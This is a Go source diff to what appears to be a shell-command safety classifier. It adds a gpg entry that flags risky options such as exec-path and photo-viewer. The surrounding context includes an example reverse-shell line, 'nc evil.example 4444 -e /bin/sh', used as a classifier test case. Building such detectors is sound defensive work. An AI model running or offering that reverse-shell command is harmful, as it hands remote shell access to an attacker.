@@ -108,6 +108,18 @@ var netCommands = []Command{
 		Examples: []Example{{"nc evil.example 4444 -e /bin/sh", "net:evil.example narrow nc -e>>'/bin/sh'"}, {"nc -z localhost 80", "net:localhost"}},
 	},
 	{
+		Names:  []string{"gpg", "gpg2"},
+		Title:  "encrypts and signs",
+		Flags:  "-abcdeknqstvz armor batch clearsign decrypt detach-sign encrypt list-keys list-secret-keys no-tty quiet sign symmetric verbose verify yes",
+		Values: "-ru recipient local-user pinentry-mode cipher-algo",
+		Opts: []Opt{
+			{"-o output", HasArg, OutputsValue}, {"homedir options", HasArg, Unsafe},
+			{"exec-path photo-viewer agent-program dirmngr-program gpgconf-path keyserver keyserver-options passphrase-file", HasArg, Unsafe},
+		},
+		Operands: Reads,
+		Examples: []Example{{"gpg --output .envrc -d x", "write:.envrc read:x"}, {"gpg --verify a.sig a", "read:a.sig read:a"}, {"gpg --photo-viewer ./x a", "narrow read:a"}},
+	},
+	{
 		Names:    []string{"nmap"},
 		Title:    "scans networks",
 		Flags:    "-vdnRAFO46h open traceroute reason",
